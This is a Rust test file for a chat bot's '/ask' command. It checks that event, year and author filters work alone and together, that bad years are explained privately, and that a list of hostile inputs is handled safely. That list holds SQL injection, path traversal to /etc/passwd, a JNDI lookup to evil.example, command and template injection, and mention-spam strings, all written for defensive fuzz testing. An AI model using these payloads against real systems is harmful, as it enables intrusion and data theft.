//! The options of `/ask`, alone and together. A18: their text is a name, a year or invalid.

use serde_json::Value;

use super::fixture::{flaws, has_excerpts, is_private, start_bot, text};

const QUESTION: &str = "what is Kubernetes?";

/// The options of a call, and the first line of its answer.
type OptionsCase = (&'static [(&'static str, &'static str)], &'static str);

const FOUND: &[OptionsCase] = &[
    (&[("event", "kubecon-na-2019")], "KubeCon NA 2019, San Diego:"),
    (&[("event", "KubeCon NA 2019, San Diego")], "KubeCon NA 2019, San Diego:"),
    (&[("event", "KubeCon NA 2019")], "KubeCon NA 2019, San Diego:"),
    (&[("event", "san diego")], "KubeCon NA 2019, San Diego:"),
    (&[("event", " ")], ""),
    (&[("year", "2019")], "2019:"),
    (&[("year", "2018-2020")], "2018 to 2020:"),
    (&[("year", "")], ""),
    (&[("author", "Duncan Thomas")], "words of Duncan Thomas:"),
    (&[("author", "garuccio")], "words of Mike Garuccio:"),
    (&[("event", "kubecon-na-2019"), ("year", "2019")], "KubeCon NA 2019, San Diego:"),
    (&[("year", "2019"), ("author", "Mike Garuccio")], "2019 · words of Mike Garuccio:"),
    (
        &[("event", "kubecon-na-2019"), ("year", "2018-2019"), ("author", "Mike Garuccio")],
        "KubeCon NA 2019, San Diego · 2018 to 2019 · words of Mike Garuccio:",
    ),
];

const NOT_FOUND: &[OptionsCase] = &[
    (&[("event", "NoSuchConf 2031")], "There is no recap about NoSuchConf 2031."),
    (&[("year", "1999")], "There is no recap from 1999."),
    (&[("author", "nobody")], "There is no recap by nobody."),
    (&[("event", "kubecon-na-2019"), ("year", "2018")], "Searched in KubeCon NA 2019, San Diego · 2018."),
];

#[tokio::test]
async fn each_option_narrows_alone_and_with_the_others() {
    let (fake, _bot) = start_bot().await;
    for place in ["server", "direct"] {
        for (options, line) in FOUND {
            let call =
                options.iter().fold(fake.ask(QUESTION), |call, (name, value)| call.option(name, *value));
            let call = if place == "direct" { call.in_dm() } else { call };
            let reply = call.send().reply().await;
            assert_eq!(text(&reply).lines().next(), Some(*line), "{options:?}: {reply:#}");
            assert!(has_excerpts(&reply) && !is_private(&reply), "{options:?}: {reply:#}");
        }
        for (options, line) in NOT_FOUND {
            let call =
                options.iter().fold(fake.ask(QUESTION), |call, (name, value)| call.option(name, *value));
            let reply = call.send().reply().await;
            assert!(text(&reply).lines().any(|said| said == *line), "{options:?}: {reply:#}");
            assert!(!has_excerpts(&reply), "{options:?}: {reply:#}");
        }
    }
    fake.assert_clean();
}

#[tokio::test]
async fn a_year_that_is_none_is_explained_to_the_person_alone() {
    let (fake, _bot) = start_bot().await;
    for year in ["nonsense", "20x9", "99999", "2020-2018-2019", "-1", "²⁰¹⁹"] {
        let reply = fake.ask(QUESTION).option("year", year).send().reply().await;
        assert!(text(&reply).contains("I can't read that year"), "{year}: {reply:#}");
        assert!(is_private(&reply), "{year}: {reply:#}");
    }
    for call in
        [fake.ask(QUESTION).option("year", "2019-2017"), fake.ask(&format!("{QUESTION} year:2019-2017"))]
    {
        let reply = call.send().reply().await;
        assert_eq!(text(&reply), "Please write the earlier year first: 2017-2019.", "{reply:#}");
        assert!(is_private(&reply), "{reply:#}");
    }
    fake.assert_clean();
}

#[tokio::test]
async fn who_asks_in_private_is_answered_in_private() {
    let (fake, _bot) = start_bot().await;
    for (is_wanted, question) in
        [(true, QUESTION), (false, QUESTION), (true, "who won the football world cup?")]
    {
        for call in [fake.ask(question), fake.ask(question).in_dm()] {
            let reply = call.private(is_wanted).send().reply().await;
            assert_eq!(is_private(&reply), is_wanted, "{reply:#}");
        }
    }
    let call = fake.ask(QUESTION).event("kubecon-na-2019").option("year", "2019").author("garuccio");
    let reply = call.private(true).send().reply().await;
    assert!(is_private(&reply) && has_excerpts(&reply), "{reply:#}");
    fake.assert_clean();
}

/// Hostile texts, each for each option.
pub const HOSTILE: &[&str] = &[
    "'; DROP TABLE posts; --",
    "\" OR 1=1",
    "../../../../etc/passwd",
    "C:\\Windows\\win.ini",
    "/dev/zero",
    "%s%n%x{0}{}${jndi:ldap://evil.example/a}",
    "{{7*7}} <%= 1 %> $(id) `id`",
    "@everyone <@1100000000000000002> <@&1100000000000000007> <#1>",
    "[a](https://evil.example) https://evil.example ||x|| ```x```",
    "\u{202e}9102\u{202c} \u{0}\u{1b}[31m\r\nX-Header: 1",
    "z\u{300}\u{301}\u{302}\u{303}\u{304}\u{305}\u{306}",
    "*~^:[a TO z] /(a+)+$/",
    "event: author: year:",
    "🦦🦦🦦",
];

#[tokio::test]
async fn a18_whatever_stands_in_an_option_is_a_name_or_none() {
    let (fake, _bot) = start_bot().await;
    let long = "x".repeat(200);
    for value in HOSTILE.iter().copied().chain([long.as_str()]) {
        for option in ["event", "year", "author"] {
            let reply = fake.ask(QUESTION).option(option, value).send().reply().await;
            assert_eq!(flaws(&reply), [""; 0], "{option} {value:?}: {reply:#}");
            assert!(!has_excerpts(&reply), "{option} {value:?} names nothing: {reply:#}");
        }
        let call = fake.ask(value).event(value).option("year", value).author(value);
        let reply: Value = call.private(false).send().reply().await;
        assert_eq!(flaws(&reply), [""; 0], "{value:?}: {reply:#}");
    }
    fake.assert_clean();
}
